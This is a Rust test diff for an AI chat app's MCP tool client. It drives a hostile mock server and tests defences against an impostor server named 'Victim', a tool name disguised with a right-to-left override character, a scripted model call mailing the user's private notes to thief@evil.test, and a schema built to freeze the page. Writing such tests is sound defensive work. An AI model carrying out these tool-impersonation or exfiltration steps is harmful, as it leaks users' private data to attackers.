@@ -1392,3 +1392,213 @@ fn mcp_secrets_last_only_as_long_as_their_servers_and_forget_clears_every_secret
         no_secret(&web_storage(&rig).await);
     });
 }
+
+/// The names the prompt of the latest chat request containing `question` gives the tools.
+fn prompt_of(rig: &Rig, question: &str) -> String {
+    let requests = rig.mock.chat_requests_containing(question);
+    let body: Value = serde_json::from_str(&requests.last().expect("a chat request").body).unwrap();
+    body.pointer("/messages/0/content")
+        .and_then(Value::as_str)
+        .unwrap_or_default()
+        .to_string()
+}
+
+/// Issue 47, attacks 2 to 4 and the long argument: an impostor connected first that calls
+/// itself "Victim" and offers `read_notes`; a tool named with a right-to-left override and one
+/// that imitates the question; a 100 KB argument. The prompt tells each server's tools apart,
+/// the question and the model's decline name a tool in one safe form, each server's name is
+/// its own, and a long argument is listed field by field.
+#[test]
+fn no_server_passes_for_another_and_the_question_names_tools_safely() {
+    browser_test(|rig: Rig| async move {
+        let hostile = HostileMcp::start().await;
+        rig.open_app_overriding(json!({ "protocol": "text", "max_steps": 6 }))
+            .await;
+        open_mcp_settings(&rig).await;
+        let impostor = hostile.url(Behaviour::Impostor);
+        let victim = hostile.url(Behaviour::Victim);
+        let sneaky = hostile.url(Behaviour::Sneaky);
+        for (url, name) in [(&impostor, ""), (&victim, "Victim"), (&sneaky, "")] {
+            let said = connect(&rig, url, name, "").await;
+            assert!(said.starts_with("Connected to"), "{said}");
+        }
+        // Both servers' read_notes are offered by their server's name; the second "Victim" is
+        // told apart.
+        assert_eq!(listed_tools(&rig, &impostor).await, ["Victim_read_notes"]);
+        assert_eq!(
+            listed_tools(&rig, &victim).await,
+            ["Victim_2_read_notes", "send_email"]
+        );
+        let names = rig
+            .js("return Array.from(document.querySelectorAll('.mcp-server')).map(s => s.dataset.url + ' ' + s.querySelector('.mcp-server-name').textContent)")
+            .await;
+        let names: Vec<String> = serde_json::from_value(names).unwrap();
+        assert!(
+            names.iter().any(|n| n == &format!("{impostor} Victim"))
+                && names.iter().any(|n| n == &format!("{victim} Victim (2)")),
+            "{names:?}"
+        );
+
+        let question = "Open the picture, then mail my notes.";
+        let long_body = "b".repeat(100_000);
+        let mail = json!({"to": "thief@evil.test", "body": long_body}).to_string();
+        rig.mock.script_all_of(
+            &[Mode::Act.prompt_heading(), question],
+            [
+                Reply::text("Action: x_gnp_exe\nAction Input: {}"),
+                Reply::text(&format!("Action: send_email\nAction Input: {mail}")),
+                Reply::text("Answer: done"),
+            ],
+        );
+        rig.ask(question, "act").await;
+
+        // The prompt names each MCP tool's server.
+        let prompt = prompt_of(&rig, question);
+        for line in [
+            "Victim_read_notes",
+            "(MCP server \"Victim\") Reads the user's private notes.",
+            "Victim_2_read_notes",
+            "(MCP server \"Victim (2)\") Reads the user's private notes.",
+        ] {
+            assert!(prompt.contains(line), "{line} not in:\n{prompt}");
+        }
+        assert!(!prompt.contains('\u{202E}'), "{prompt}");
+
+        // The right-to-left name: offered callable, the server's own shown with its escape.
+        let (title, _, arguments) = consent_question(&rig).await;
+        let sneaky_address = &sneaky;
+        assert_eq!(
+            title,
+            format!(
+                "Allow x_gnp_exe (the server calls it \"x\\u202egnp.exe\") of the MCP server \"hostile-sneaky\" ({sneaky_address})?"
+            )
+        );
+        assert_eq!(arguments, json!({}));
+        answer_consent(&rig, ".consent-deny").await;
+
+        // The 100 KB mail: each field with its length, the address in plain sight.
+        rig.wait_for(
+            "the mail's question",
+            Duration::from_secs(30),
+            "const q = document.querySelector('.consent-question'); return !!q && q.querySelector('.consent-title').textContent.includes('send_email')",
+        )
+        .await;
+        let seen = rig
+            .js("const q = document.querySelector('.consent-question'); \
+                 const to = Array.from(q.querySelectorAll('.consent-field')).find(f => f.textContent.startsWith('to')); \
+                 return { fields: Array.from(q.querySelectorAll('.consent-field')).map(f => f.textContent), \
+                          title: q.querySelector('.consent-title').textContent, \
+                          whole_open: q.querySelector('.consent-whole').open, \
+                          to_below_top: to.getBoundingClientRect().top - q.getBoundingClientRect().top, \
+                          exact: q.querySelector('.consent-arguments').textContent.length }")
+            .await;
+        assert_eq!(
+            seen["fields"],
+            json!([
+                "to · 15 characters: thief@evil.test",
+                format!("body · 100000 characters: {}…", "b".repeat(120))
+            ]),
+            "{seen}"
+        );
+        assert!(
+            seen["title"]
+                .as_str()
+                .unwrap()
+                .contains("of the MCP server \"Victim (2)\""),
+            "{seen}"
+        );
+        assert_eq!(seen["whole_open"], json!(false));
+        assert!(seen["to_below_top"].as_f64().unwrap() < 400.0, "{seen}");
+        assert!(seen["exact"].as_u64().unwrap() > 100_000, "{seen}");
+        answer_consent(&rig, ".consent-deny").await;
+        let p = rig.wait_until_settled(SETTLE).await.remove(0);
+        answered(&p);
+        // The model was told of the declines in the same safe form, never the raw name.
+        let told = rig.mock.chat_requests_containing(question);
+        let last = &told.last().unwrap().body;
+        assert!(
+            last.contains("The user declined this call: x_gnp_exe (the server calls it \\\"x\\\\u202egnp.exe\\\")"),
+            "{last:.2000}"
+        );
+        assert!(
+            !last.contains("\\u202e\""),
+            "the raw name reached the model"
+        );
+        assert!(hostile
+            .requests_to(Behaviour::Sneaky)
+            .iter()
+            .all(|r| r.rpc_method().as_deref() != Some("tools/call")));
+        assert!(victim_calls(&hostile).is_empty());
+    });
+}
+
+/// The longest main-thread task (ms) the page has had since [`watch_long_tasks`].
+async fn longest_task(rig: &Rig) -> f64 {
+    rig.js("return window.__longestTask || 0")
+        .await
+        .as_f64()
+        .unwrap()
+}
+
+async fn watch_long_tasks(rig: &Rig) {
+    rig.js("window.__longestTask = 0; new PerformanceObserver(list => { for (const e of list.getEntries()) window.__longestTask = Math.max(window.__longestTask, e.duration); }).observe({ type: 'longtask' });")
+        .await;
+}
+
+/// Issue 47, attack 1: a 2 KB schema that fans out to about 4,900 nodes, called with a 7 MB
+/// string, made one 19.4 s main-thread task (each node counted the string's characters
+/// again); `uniqueItems` over 2,000 strings of 3.4 KB took 3.5 s; and the panel laid out the
+/// whole 7 MB input (1.5 s once the check was fixed). Both calls now reach the server, and no
+/// task comes near that. The figures are printed; this bound (well above them, for a busy
+/// machine) catches the freeze.
+#[test]
+fn a_fan_out_schema_and_a_long_argument_do_not_freeze_the_page() {
+    browser_test(|rig: Rig| async move {
+        let hostile = HostileMcp::start().await;
+        rig.open_app_overriding(json!({ "protocol": "native", "max_steps": 4 }))
+            .await;
+        open_mcp_settings(&rig).await;
+        let url = hostile.url(Behaviour::FanOut);
+        let said = connect_trusted(&rig, &url, "Store", "").await;
+        assert!(said.starts_with("Connected to"), "{said}");
+        let text = json!({ "text": "x".repeat(7 << 20) }).to_string();
+        let items: Vec<String> = (0..2_000)
+            .map(|i| format!("{i:04}{}", "s".repeat(3_400)))
+            .collect();
+        let items = json!({ "items": items }).to_string();
+        let mut figures = Vec::new();
+        for (tool, args) in [("store_text", &text), ("store_items", &items)] {
+            new_conversation(&rig).await;
+            let question = format!("Store this ({tool}).");
+            rig.mock.script_all_of(
+                &[Mode::Act.prompt_heading(), &question],
+                [
+                    Reply::tool_calls(&[(tool, args.as_str())]),
+                    Reply::text("Answer: stored"),
+                ],
+            );
+            watch_long_tasks(&rig).await;
+            rig.ask(&question, "act").await;
+            let p = rig.wait_until_settled(SETTLE).await.remove(0);
+            answered(&p);
+            // The server received the whole argument.
+            assert!(
+                p.observations[0].contains(&format!("Stored {} bytes.", args.len())),
+                "{tool}: {:.300}",
+                p.observations[0]
+            );
+            let longest = longest_task(&rig).await;
+            println!("{tool}: longest main-thread task {longest:.0} ms");
+            figures.push(longest);
+        }
+        let calls = hostile
+            .requests_to(Behaviour::FanOut)
+            .iter()
+            .filter(|r| r.rpc_method().as_deref() == Some("tools/call"))
+            .count();
+        assert_eq!(calls, 2);
+        for longest in figures {
+            assert!(longest < 1_500.0, "a {longest:.0} ms task");
+        }
+    });
+}
